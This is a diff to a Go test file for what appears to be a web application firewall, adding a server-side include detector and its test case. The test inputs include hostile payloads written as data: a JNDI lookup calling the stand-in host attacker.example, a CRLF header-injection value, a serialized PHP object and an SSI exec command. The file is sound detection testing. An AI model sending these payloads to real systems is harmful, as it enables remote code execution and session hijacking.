@@ -12,6 +12,7 @@ import (
 	"github.com/portcullis-waf/portcullis/waf/detect/jndi"
 	"github.com/portcullis-waf/portcullis/waf/detect/ldap"
 	"github.com/portcullis-waf/portcullis/waf/detect/nosql"
+	"github.com/portcullis-waf/portcullis/waf/detect/ssi"
 	"github.com/portcullis-waf/portcullis/waf/detect/ssrf"
 	"github.com/portcullis-waf/portcullis/waf/detect/ssti"
 	"github.com/portcullis-waf/portcullis/waf/detect/traversal"
@@ -19,7 +20,7 @@ import (
 )
 
 func detectors() []detect.Detector {
-	return []detect.Detector{traversal.New(), ssti.New(), ssrf.New(), ldap.New(), nosql.New(), xxe.New(), crlf.New(), jndi.New(), deserialization.New()}
+	return []detect.Detector{traversal.New(), ssti.New(), ssrf.New(), ldap.New(), nosql.New(), xxe.New(), crlf.New(), jndi.New(), deserialization.New(), ssi.New()}
 }
 
 // all runs every detector on a value, as one detect.Detector.
@@ -48,8 +49,8 @@ func TestClassesDistinct(t *testing.T) {
 		}
 		seen[d.Class()] = true
 	}
-	if len(seen) != 9 {
-		t.Errorf("%d classes, want 9", len(seen))
+	if len(seen) != 10 {
+		t.Errorf("%d classes, want 10", len(seen))
 	}
 }
 
@@ -81,9 +82,10 @@ var attacks = []detect.Input{
 	{Value: "en\r\nSet-Cookie: session=attacker", Where: detect.WhereQuery, Name: "ARGS:lang"},
 	{Value: "${${lower:j}ndi:ldap://attacker.example/a}", Where: detect.WhereHeader, Name: "REQUEST_HEADERS:User-Agent"},
 	{Value: `O:8:"stdClass":1:{s:1:"a";s:1:"b";}`, Where: detect.WhereCookie, Name: "REQUEST_COOKIES:data"},
+	{Value: `<!--#exec cmd="id" -->`, Where: detect.WhereForm, Name: "ARGS:comment"},
 }
 
-// BenchmarkAll reports the cost of the nine detectors per request-sized
+// BenchmarkAll reports the cost of the ten detectors per request-sized
 // set of values (ns/op is per set; x_pass is the ratio to one byte pass).
 func BenchmarkAll(b *testing.B) {
 	a := all{detectors()}
